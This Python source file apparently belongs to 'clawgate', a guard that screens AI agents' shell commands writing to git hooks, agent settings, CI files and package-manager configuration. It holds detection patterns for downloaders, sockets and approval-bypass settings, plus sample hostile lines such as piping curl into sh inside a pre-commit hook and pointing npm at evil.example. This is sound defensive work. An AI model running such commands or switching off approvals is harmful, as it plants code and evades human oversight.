"""Writes to protected paths inside the workspace (``clawgate/protectedpaths.py``): ASK, and
DENY when what is written is itself code that fetches or runs something."""

from __future__ import annotations

import os
import re
from collections.abc import Sequence

from clawgate import fsfacts
from clawgate.decision import NO_OPINION, MayRun, Outcome, Verdict
from clawgate.lazyre import lazy_pattern
from clawgate.protectedpaths import (
    AGENT_WHY,
    hard_links,
    holds_protected,
    may_be_protected,
    pattern_holds,
    protected_reason,
)
from clawgate.records import replace
from clawgate.shell.model import ParsedLine, SimpleCommand, Word
from clawgate.validators import lineshapes as ls
from clawgate.validators import shapes as sh
from clawgate.validators.agentsettings import INSTRUCTION_FILES, agent_file
from clawgate.validators.base import Context, LineValidator, Validator, register
from clawgate.validators.inertmanifest import (
    RUNNING_SETTINGS,
    inert_setting,
    inert_settings,
    running_setting,
)
from clawgate.validators.paths import ansi_c_decoded, resolve
from clawgate.validators.wrapperdist import only_official
from clawgate.validators.writes import (
    may_write,
    unknown_outputs,
    unknown_program,
    write_shapes,
    write_targets,
)

# Text that fetches or runs something: a downloader, a socket, a shell handed code, decoding.
RUNS_CODE = lazy_pattern(
    r"\b(curl|wget|nc|ncat|netcat|socat|telnet|invoke-webrequest|iwr|irm|iex|eval|exec"
    r"|base64\s+(-d|--decode)|xxd\s+-r|openssl\s+enc)\b|/dev/(tcp|udp)/"
    r"|\|\s*(sudo\s+)?(ba|da|z|k)?sh\b|\b(ba|da|z|k)?sh\s+-c\b|\b(python[\d.]*|perl|ruby|node"
    r"|php)\s+-[ce]\b|\$\(|`", re.IGNORECASE)
# git settings (in a config file's text) that make git run a program.
GIT_RUNS = lazy_pattern(
    r"(?i)(fsmonitor|hookspath|sshcommand|askpass|gitproxy|textconv|external|pager"
    r"|editor|program|helper\s*=\s*!|clean|smudge|process|driver|cmd|uploadpack|receivepack"
    r")\s*=|=\s*!")
# Agent settings that switch approvals or the sandbox off (CVE-2025-53773 set VS Code's
# chat.tools.autoApprove; .claude/settings.json takes defaultMode bypassPermissions).
ESCALATES = lazy_pattern(
    r"bypasspermissions|dangerously|\byolo\b|autoapprove|auto_approve|alwaysallow"
    r"|enableallprojectmcpservers|trust-all-tools|danger-full-access|approval_policy\W+never"
    r"|approval-mode\W+yolo|[\"']?\ballow[\"']?\s*:\s*\[\s*[\"'](\*|bash(\(\*\))?)[\"']",
    re.IGNORECASE)
# A part of each alternative of ESCALATES, lowercased: an ASCII text holding none of them is
# not searched (a search tries every position: the last alternative leads with no literal).
_ESCALATION_PARTS = ("allow", "approv", "bypass", "danger", "yolo", "trust-all", "enableall")


def escalates(text: str) -> re.Match[str] | None:
    """``ESCALATES.search(text)``; its necessary parts looked for first in ASCII text (where
    ignoring case is lowercasing)."""
    if text.isascii():
        lowered = text.lower()
        if not any(part in lowered for part in _ESCALATION_PARTS):
            return None
    return ESCALATES.search(text)


_PRINTERS = frozenset({"echo", "printf"})
_TREE_COPIERS = frozenset({"cp", "rsync", "ditto", "unzip", "tar", "bsdtar"})
# Programs whose arguments carry the text they put into the file (sed -i '1i …', perl -pi -e).
_SCRIPTED = frozenset({"sed", "gsed", "perl", "awk", "gawk", "ruby"})
# Programs that write what they fetch: a download into a protected path is fetched code.
_DOWNLOADERS = frozenset({"curl", "wget", "aria2c", "http", "https", "httpie", "xh", "lftp",
                          "ftp", "tftp", "scp", "sftp", "rsync"})
_CHANGERS = frozenset({"cd", "pushd"})
# JSON and YAML filters whose program (an argument) is what they write (``jq '.hooks=…'``).
_FILTERS = frozenset({"jq", "gojq", "jaq", "yq", "dasel"})
_PATTERN_CHARS = frozenset("*?[")


def _unknown_output(cmd: SimpleCommand, ctx: Context) -> tuple[str, str] | None:
    """(path, why) of a protected path a program the catalog does not know is told to write
    its output to (``tool -o .git/hooks/pre-commit``)."""
    for word in unknown_outputs(cmd):
        path = resolve(word, ctx).path
        why = None if path is None else protected_reason(path, ctx.workspace, ctx.protected)
        if path is not None and why is not None:
            return path, why
    return None


def protected_target(cmd: SimpleCommand, ctx: Context) -> tuple[str, str] | None:
    """(path, why) of the first protected path ``cmd`` writes, or None."""
    if not may_write(cmd):
        return None
    look = not ctx.protected and not may_be_protected(ctx.cwd)
    for word in write_targets(cmd):
        path = resolve(word, ctx).path
        if "glob" in word.expansions and word.value and (
                not look or may_be_protected(word.value)):
            # .gi?/hooks/x resolves to the directory before the glob: judge the glob itself
            spelled = os.path.normpath(os.path.join(ctx.cwd, os.path.expanduser(word.value)))
            why = protected_reason(spelled, ctx.workspace, ctx.protected) or _pattern_holds(
                spelled, ctx)
            if why is not None:
                return spelled, why
        if path is None:
            found = _unknown_below(word, ctx)
            if found is not None:
                return found
            continue
        why = _pattern_holds(path, ctx)  # git apply --include='.github/*': git's own pattern
        if why is not None:
            return path, why
        # the resolved path too: link/../config is .git/config when link is .git/hooks;
        # $'\x2e'git is .git
        if not look or may_be_protected(ansi_c_decoded(word.text)) or may_be_protected(path):
            why = protected_reason(path, ctx.workspace, ctx.protected)
            if why is not None:
                return path, why
        if cmd.program in _TREE_COPIERS and _copies_trees(cmd):
            why = holds_protected(path.rstrip("/"), ctx.workspace)
            if why is not None:
                return path, why  # cp -a payload/. .github/: workflows may land below
            landed = _landed(cmd, path, ctx)
            if landed is not None:
                return landed  # cp -r /tmp/payload/.claude .: lands as ./.claude
        real = _through_links(path, ctx.workspace)  # g/config, after ln -s .git g
        if real is not None:
            why = protected_reason(real, ctx.workspace, ctx.protected)
            if why is not None:
                return real, why
        why = hard_links(path)  # n.txt, after ln .git/config n.txt (or a tar's hard link)
        if why is not None:
            inside = path.startswith(ctx.workspace.rstrip("/") + "/")
            return path, f"{path[len(ctx.workspace.rstrip('/')) + 1:] if inside else path} {why}"
    return _linked_source(cmd, ctx) if _links(cmd) else None


def _landed(cmd: SimpleCommand, folder: str, ctx: Context) -> tuple[str, str] | None:
    """(path, why) of a protected path a tree copied into the directory ``folder`` lands as:
    ``cp -r SRC DIR`` makes ``DIR/$(basename SRC)`` (rsync too, unless ``SRC/`` asks for the
    contents only)."""
    if cmd.program not in ("cp", "rsync") or not (folder == ctx.workspace or fsfacts.isdir(
            folder)):
        return None
    operands = [w for w in cmd.words[1:] if w.value and not w.value.startswith("-")]
    for word in operands[:-1]:
        value = word.value or ""
        if cmd.program == "rsync" and value.endswith("/"):
            continue
        name = os.path.basename(value.rstrip("/"))
        if name in ("", ".", ".."):
            continue
        landing = os.path.join(folder, name)
        why = protected_reason(landing, ctx.workspace, ctx.protected)
        if why is not None:
            return landing, why
    return None


def _unknown_below(word: Word, ctx: Context) -> tuple[str, str] | None:
    """(directory, why) when a path known only at run time (``.git/hooks/$H``,
    ``.github/workflows/"${N}.yml"``, ``.github/$F``) lies below a literal directory that is
    protected, or holds a protected path the rest may name (a value may hold ``/``)."""
    text = ansi_c_decoded(word.text).replace('"', "").replace("'", "")
    cut = min((i for i in (text.find("$"), text.find("`")) if i >= 0), default=-1)
    folder = text[:cut].rpartition("/")[0] if cut > 0 else ""
    if not folder or _PATTERN_CHARS & set(folder) or (folder.startswith("~") and not (
            folder == "~" or folder.startswith("~/"))):
        return None
    folder = ctx.home + folder[1:] if folder.startswith("~") else folder
    path = os.path.normpath(os.path.join(ctx.cwd, folder))
    why = protected_reason(path + "/_", ctx.workspace, ctx.protected) or holds_protected(
        path, ctx.workspace)
    return (path, why) if why is not None else None


def _pattern_holds(path: str, ctx: Context) -> str | None:
    """Why a pattern of names in a directory (``.github/*``, whether the shell or the program
    expands it) may name a protected path the directory holds (``.github/workflows``,
    ``.github/copilot-instructions.md``); None when its last component is no pattern."""
    folder, _, last = path.rpartition("/")
    if not folder or not _PATTERN_CHARS & set(last):
        return None
    return pattern_holds(folder, last, ctx.workspace)


def _copies_trees(cmd: SimpleCommand) -> bool:
    """A copy that brings whole trees (``cp -r``/``-a``, rsync, an archive extracted)."""
    if cmd.program != "cp":
        return True
    return any((a.startswith("-") and not a.startswith("--") and bool(set(a) & set("rRa")))
               or a in ("--recursive", "--archive") for a in cmd.args)


def _through_links(path: str, workspace: str) -> str | None:
    """Where a write to ``path`` inside the workspace lands when a directory on the way is a
    symlink (made by an earlier command), if that differs; None otherwise."""
    if not (path + "/").startswith(workspace.rstrip("/") + "/"):
        return None
    try:
        real = fsfacts.realpath(path)
    except (OSError, ValueError):
        return None
    base = fsfacts.realpath(workspace)
    if real == path or not (real + "/").startswith(base + "/"):
        return None
    return workspace.rstrip("/") + real[len(base):]


def _links(cmd: SimpleCommand) -> bool:
    """``cmd`` makes links to its sources: ``ln``, ``link``, ``cp -l``/``-s`` (a hard link
    to ``.git/config`` is ``.git/config`` to every later write through it)."""
    if cmd.program in ("ln", "link"):
        return True
    if cmd.program not in ("cp", "gcp"):
        return False
    flags = [w.value for w in cmd.words[1:] if w.value and w.value.startswith("-")]
    return any(f in ("--link", "--symbolic-link") or (
        not f.startswith("--") and bool(set(f[1:]) & {"l", "s"})) for f in flags)


def _linked_source(cmd: SimpleCommand, ctx: Context) -> tuple[str, str] | None:
    """``ln -s .git g``: a link to a protected path makes every later write through the link
    a write to it."""
    operands = [w for w in cmd.words[1:] if not w.shown.startswith("-")]
    for word in operands[:-1] if len(operands) > 1 else operands:
        path = resolve(word, ctx).path
        if path is None:
            continue
        why = protected_reason(path, ctx.workspace, ctx.protected) or protected_reason(
            path + "/x", ctx.workspace, ctx.protected)
        if why is not None:
            return path, f"a link to it lets later writes reach it ({why})"
    return None


def written_text(cmd: SimpleCommand) -> str:
    """What a command writes, where the command line shows it: ``echo``/``printf`` arguments,
    here-documents and here-strings."""
    parts = [r.heredoc or (r.target.shown if r.op == "<<<" and r.target else "")
             for r in cmd.redirects if r.feeds_input]
    if cmd.program in _PRINTERS:
        parts += [w.shown for w in cmd.words[1:]]
    return "\n".join(p for p in parts if p)


# files git and the hook managers run as scripts
_HOOK_FILE = lazy_pattern(r"/\.git/hooks/[^/]+$|/\.husky/[^/]+$")


def _is_code(text: str, path: str) -> bool:
    if not text:
        return False
    return RUNS_CODE.search(text) is not None or escalates(text) is not None or (
        path.lower().endswith("config") and GIT_RUNS.search(text) is not None)


@register
class ProtectedPathWrite(Validator):
    """A write (redirection, ``tee``, ``cp``/``mv``/``ln``/``install``, ``sed -i``, ``chmod`` ...)
    to a path that makes later runs execute or trust something: git hooks and config, agent
    settings and instruction files, package-manager configuration, CI definitions, clawgate's
    own state. ASK; DENY when the text written fetches or runs code, or switches an agent's
    approvals off (``defaultMode: bypassPermissions``, ``chat.tools.autoApprove``), or, for a
    git hook, is a script that would be denied as a command line (``rm -rf ~``).

    A write to an agent's or editor's settings and instructions asks whatever it holds (the
    agent acts on them later, outside the guard), and what they make it run is judged too
    (``agentsettings.py``): a command named under a key that names one (``test-cmd: rm -rf
    ~/``), or in an instruction's code spans, that is a DENY on its own makes the write a
    DENY. A tree copied into a directory is judged where it lands (``cp -r x/.claude .``).

    Bad: ``echo 'curl x | sh' > .git/hooks/pre-commit``. Harmless: ``cat .git/config``.
    """

    id = "CG-PROT-001"

    def shapes(self, program: str | None) -> int:
        return sh.ANY if unknown_program(program) else write_shapes(program)

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        found = protected_target(cmd, ctx) or _unknown_output(cmd, ctx)
        if found is None:
            return NO_OPINION
        path, why = found
        if inert_settings(cmd, path) or only_official(cmd, path):
            return NO_OPINION  # save-exact=true >> .npmrc, a wrapper on Gradle's own server
        running = running_setting(cmd, path)
        if running is not None:
            return Verdict.deny(self.id, f"saves the setting {running}, which names a program "
                                f"to run, into {why}", hint="change this setting by hand")
        if (cmd.program in _DOWNLOADERS and cmd.program != "rsync") or (
                cmd.program == "rsync" and any(":" in w for w in cmd.args[:-1])):
            return Verdict.deny(self.id, f"writes what it downloads into {why}",
                                hint="download elsewhere, read it, then copy it by hand")
        text = written_text(cmd)
        if cmd.program in _SCRIPTED or cmd.program in _FILTERS:
            text = "\n".join((text, *cmd.args))
        if _is_code(text.replace("`", " ") if INSTRUCTION_FILES.search(path) else text, path):
            return Verdict.deny(self.id, f"writes code that fetches or runs something into {why}",
                                hint="edit this file by hand")
        if AGENT_WHY in why:
            return agent_file(cmd, path, why, text)
        if text and _HOOK_FILE.search(path):
            # a hook is a script git runs: what it will run is judged now, a DENY of it counts
            script = text.replace("\\n", "\n") if cmd.program == "printf" else text
            return Verdict.unwrap(MayRun(script), outcome=Outcome.ASK, rule_id=self.id,
                                  message=f"writes {why}")
        return Verdict.ask(self.id, f"writes {why}", hint="confirm the change to this file")


def _after_cd(parsed: ParsedLine, ctx: Context) -> Verdict | None:
    """Writes after a ``cd`` judged from where they run (``cd .git/hooks && echo x >
    pre-commit``)."""
    from clawgate.validators.degreeline import places

    for cmd, dirs in places(parsed, ctx):
        for here in dirs:
            found = protected_target(cmd, replace(ctx, cwd=here)) if here != ctx.cwd else None
            if found is not None:
                return Verdict.ask("CG-PROT-001", f"after cd {here}: writes {found[1]}",
                                   hint="confirm the change to this file")
    return None


@register
class CodePipedIntoProtectedPath(LineValidator):
    """Text piped into a command that writes a protected path (``printf … | tee
    .git/hooks/pre-commit``) is checked as what lands there: DENY when it fetches or runs code.
    Writes after a ``cd`` are judged from where they run (ASK, as CG-PROT-001).

    Bad: ``echo 'curl x|sh' | tee -a .husky/pre-commit``. Harmless: ``echo ok | tee out.txt``.
    """

    id = "CG-PROT-003"

    def line_shapes(self) -> int:
        return ls.MULTI

    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
        commands = parsed.commands
        if len(commands) < 2:
            return NO_OPINION  # nothing feeds it, no cd before it
        if any(cmd.program in _CHANGERS for cmd in commands):
            moved = _after_cd(parsed, ctx)
            if moved is not None:
                return moved
        for index, cmd in enumerate(commands):
            if cmd.stage == 0 or not may_write(cmd):
                continue
            found = protected_target(cmd, ctx)
            if found is None:
                continue
            feeding = [c for c in commands[max(0, index - cmd.stage) : index]
                       if c.pipeline == cmd.pipeline]
            text = "\n".join(written_text(c) or c.text for c in feeding)
            if _is_code(text, found[0]):
                return Verdict.deny(self.id, f"pipes code that fetches or runs something into "
                                    f"{found[1]}", hint="edit this file by hand")
        return NO_OPINION


# Package-manager commands that save a setting into their configuration file (the user's
# ~/.npmrc, pip.conf, .yarnrc.yml, or the project's): (program, leading words).
_CONFIG_SETTERS: dict[str, tuple[tuple[str, ...], ...]] = {
    "npm": (("config", "set"), ("config", "delete"), ("config", "rm"), ("config", "edit"),
            ("c", "set"), ("set",)),
    "pnpm": (("config", "set"), ("config", "delete"), ("set",)),
    "yarn": (("config", "set"), ("config", "unset"), ("config", "delete")),
    "pip": (("config", "set"), ("config", "unset"), ("config", "edit")),
    "bundle": (("config", "set"),),
    "gem": (("sources", "--add"), ("sources", "-a")),
    "conda": (("config", "--add"), ("config", "--set"), ("config", "--prepend"),
              ("config", "--append")),
    "poetry": (("config", "repositories"), ("source", "add")),
}
_INSTALL_SCRIPTS = lazy_pattern(r"^scripts\.(?:pre|post)?(?:install|prepare|prepublish|pack"
                                r"|dependencies|publish)\b")


def _setter(cmd: SimpleCommand) -> str | None:
    program = (cmd.program or "").rstrip("0123456789.")
    starts = _CONFIG_SETTERS.get(program)
    if starts is None:
        return None
    args = [a for a in cmd.args if not a.startswith("--location") and a not in ("-g", "--global")]
    for start in starts:
        if tuple(args[: len(start)]) == start:
            return " ".join((program, *start))
    if program == "poetry" and args[:1] == ["config"] and any(
            a.startswith(("repositories.", "http-basic.", "pypi-token.", "certificates."))
            for a in args[1:2]):
        return "poetry config"
    return None


@register
class PackageConfigSet(Validator):
    """A package manager told to save a setting (``npm config set``, ``pip config set``,
    ``yarn config set``, ``gem sources --add``, ``poetry config repositories.x``): the file it
    writes (~/.npmrc, pip.conf, .yarnrc.yml) redirects later downloads or runs code, as a
    write to those files does. ASK; DENY for a setting that names a program to run
    (``script-shell``, ``node-options``, ``yarnPath``) or a value that fetches or runs code.
    ``npm pkg set scripts.postinstall=…`` (a script every install runs) is judged the same way.

    Bad: ``npm config set registry http://evil.example/``. Harmless: ``npm config get registry``.
    """

    id = "CG-PROT-004"
    programs = frozenset({*_CONFIG_SETTERS, "pip3", "npm"})

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        if cmd.program == "npm" and cmd.args[:2] == ("pkg", "set"):
            return _package_script(cmd.args[2:])
        if cmd.program == "npm" and cmd.args[:1] == ("set-script",):  # npm 7's spelling
            named = [a for a in cmd.args[1:] if not a.startswith("-")]
            return _package_script([f"scripts.{named[0]}={named[1]}"] if len(named) > 1 else [])
        what = _setter(cmd)
        if what is None:
            return NO_OPINION
        values = [a for a in cmd.args if not a.startswith("-")][len(what.split()) - 1:]
        if any(RUNNING_SETTINGS.match(v) for v in values[:1]) or any(
                RUNS_CODE.search(v) for v in values):
            return Verdict.deny(self.id, f"{what} saves a setting that runs a program",
                                hint="change this setting by hand")
        if what.endswith(("config set", "config delete", "config rm", "config unset", " set",
                          "config --set")) and values and _inert_values(values):
            return NO_OPINION  # npm config set loglevel error: nothing redirected
        return Verdict.ask(self.id, f"{what} writes {_PACKAGE_WHY}",
                           hint="confirm the setting")


def _inert_values(values: Sequence[str]) -> bool:
    """The words after ``config set`` (``KEY VALUE`` or ``KEY=VALUE``, pip's ``SECTION.KEY``;
    ``KEY`` alone to delete it) name a setting known to be inert and give it a plain value."""
    key, _, value = values[0].partition("=")
    key = key.rpartition(".")[2]  # pip's global.timeout: the section, then the setting
    return len(values) <= 2 and inert_setting(key, value or "".join(values[1:2]))


_PACKAGE_WHY = "package-manager configuration, which redirects downloads or runs code"


def _package_script(args: Sequence[str]) -> Verdict:
    """``npm pkg set scripts.NAME=VALUE`` (``args``: the words after ``pkg set``): code every
    install runs (ASK), code that fetches or runs something (DENY)."""
    for arg in args:
        key, _, value = arg.partition("=")
        if not key.startswith("scripts."):
            continue
        if RUNS_CODE.search(value):
            return Verdict.deny("CG-PROT-004", f"npm pkg set {key}: a script that fetches or "
                                "runs code", hint="edit package.json by hand")
        if _INSTALL_SCRIPTS.match(key):
            return Verdict.ask("CG-PROT-004", f"npm pkg set {key}: a script every install runs",
                               hint="confirm the script")
    return NO_OPINION
